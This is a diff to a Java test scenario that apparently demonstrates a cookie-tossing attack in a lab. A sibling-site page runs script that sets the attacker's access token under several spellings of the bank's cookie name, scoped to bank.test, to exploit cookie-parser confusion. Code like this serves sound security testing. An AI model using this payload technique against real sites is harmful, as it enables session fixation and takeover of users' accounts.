@@ -47,7 +47,8 @@ public final class FixateParserInBrowser implements Scenario {
         String name = lab.carrier().accessCookie().orElseThrow();
         String value = attacker.logIn().credentials().access().orElseThrow();
         Browser browser = lab.browser();
-        Tab tab = browser.open(browser.publish(Site.SIBLING, SitePage.of(page(spellings(name), value))));
+        Tab tab = browser.open(
+                browser.publish(Site.SIBLING, SitePage.forgottenBlog().running(script(spellings(name), value))));
         tab.picture("The sibling's page, whose script has set cookies for all of bank.test");
 
         lab.step("when at the bank one of them is taken for the right one, that is the prize.");
@@ -60,12 +61,9 @@ public final class FixateParserInBrowser implements Scenario {
                 "\\u2000" + name + "=", "$Version=1," + name + "=", "=" + name + "=", name.replace("_", "%5F") + "=");
     }
 
-    private static String page(List<String> spellings, String value) {
-        return "<!doctype html><html lang=en><title>Blog</title><h1>A forgotten blog</h1><script>"
-                + spellings.stream()
-                        .map(spelling ->
-                                "document.cookie = '" + spelling + value + "; Domain=bank.test; Path=/; Secure';")
-                        .collect(Collectors.joining())
-                + "</script>";
+    private static String script(List<String> spellings, String value) {
+        return spellings.stream()
+                .map(spelling -> "document.cookie = '" + spelling + value + "; Domain=bank.test; Path=/; Secure';")
+                .collect(Collectors.joining());
     }
 }
